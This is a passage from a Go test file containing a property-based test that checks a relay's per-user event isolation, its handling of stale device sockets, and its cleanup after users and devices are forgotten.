		if strings.Contains(text, "dev_7.") || !strings.Contains(text, "dev_3.openclaw lost") || !strings.Contains(text, "dev_late.openclaw ready") {
			t.Error(text)
		}
		p.ForgetUser("olga")
		p.nothingLeft(t)
	})
}

// Whatever devices do, in whatever order, events stay with their user, a device that is gone is not
// asked, and nothing is left of devices that are forgotten.
func TestAnyOrder(t *testing.T) {
	rapid.Check(t, func(rt *rapid.T) {
		p := newPages()
		users, devices := []string{"u1", "u2"}, []string{"d1", "d2", "d3"}
		at := map[string]*fakeLine{} // by user.device
		old := []*fakeLine{}
		for range rapid.IntRange(1, 40).Draw(rt, "steps") {
			user, dev := rapid.SampledFrom(users).Draw(rt, "user"), rapid.SampledFrom(devices).Draw(rt, "device")
			id := user + dev // the relay's device ids are unique
			l := at[id]
			switch op := rapid.SampledFrom([]string{"join", "leave", "revoke", "turn", "approval", "old"}).Draw(rt, "op"); {
			case op == "join":
				if l != nil {
					old = append(old, l)
				}
				at[id] = p.join(rt, user, id)
			case op == "old" && len(old) > 0:
				o := rapid.SampledFrom(old).Draw(rt, "socket")
				p.happened(rt, o, turnOf("ghost"))
				p.Left(o)
			case l == nil:
			case op == "leave":
				p.Left(l)
				old = append(old, l)
				delete(at, id)
			case op == "revoke":
				l.end()
				p.Forget(user, id)
				old = append(old, l)
				delete(at, id)
			case op == "turn":
				p.happened(rt, l, turnOf(rapid.StringMatching("t[0-9]").Draw(rt, "turn")))
			case op == "approval":
				p.happened(rt, l, openApproval(rapid.StringMatching("a[0-9]").Draw(rt, "approval")))
			}
		}
		for _, user := range users {
			for _, e := range append(p.take(user), p.greeted(user)...) {
				text := string(wire.MustJSON(e))
				if e.Backend != "" && !strings.HasPrefix(e.Backend, user) || strings.Contains(text, "ghost") ||
					strings.Contains(text, map[string]string{"u1": "u2d", "u2": "u1d"}[user]) {
					rt.Fatalf("%s hears %s", user, text)
				}
			}
			for _, dev := range devices {
				id := user + dev
				if l := at[id]; l == nil {
					a := p.Chat(t.Context(), user, wire.ChatRequest{Op: wire.ChatOpSessions, Backend: id + ".openclaw"})
					if c := codeOf(a); c != wire.CodeAgentNotReady && c != wire.CodeNotFound {
						rt.Fatalf("a device that is not there: %+v", a)
					}
				}
			}
			p.ForgetUser(user)
		}
		p.nothingLeft(rt)
	})
}
